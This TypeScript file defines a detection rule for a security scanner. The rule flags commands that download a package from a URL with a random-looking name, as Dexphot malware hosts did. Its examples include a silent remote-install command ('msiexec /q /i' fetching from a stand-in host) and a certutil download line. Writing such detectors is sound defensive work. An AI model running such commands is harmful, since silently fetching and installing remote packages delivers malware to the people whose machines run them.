import { matchSteps } from '../evidence.js';
import { looksRandom } from '../random-name.js';
import { DEXPHOT_REPORT } from '../reference.js';
import type { Rule } from '../rule.js';
import { parseUrl, urlsOf } from '../url.js';

export const randomPayloadUrl: Rule = {
  id: 'random-payload-url',
  title: 'A command fetches a URL with a random name',
  severity: 'low',
  explanation:
    'The last part of the path is random and has no extension, like the packages on Dexphot hosts. Those hosts were mostly under .info and .net; the evidence mentions it, but alone it means little. Content delivery networks use such names too.',
  attack: ['T1105'],
  references: [DEXPHOT_REPORT],
  match: (facts) =>
    matchSteps(facts, ({ meaning }) => {
      const url = urlsOf(meaning).find(isRandom);
      if (url === undefined) return undefined;
      const hint = /\.(?:info|net)$/i.test(parseUrl(url)?.hostname ?? '') ? ', host under .info or .net' : '';
      return `${url}${hint}`;
    }),
  examples: [
    { what: 'a package at a random path', runs: ['msiexec /q /i http://host.example.net/k2m9x7qp'] },
  ],
  counterExamples: [
    { what: 'a file with a name', runs: ['msiexec /i https://www.example.com/downloads/runtime.msi'] },
    { what: 'a word', runs: ['certutil -urlcache -f https://www.example.com/download x'] },
  ],
};

function isRandom(url: string): boolean {
  const path = parseUrl(url)?.pathname ?? '';
  return looksRandom(path.slice(path.lastIndexOf('/') + 1));
}
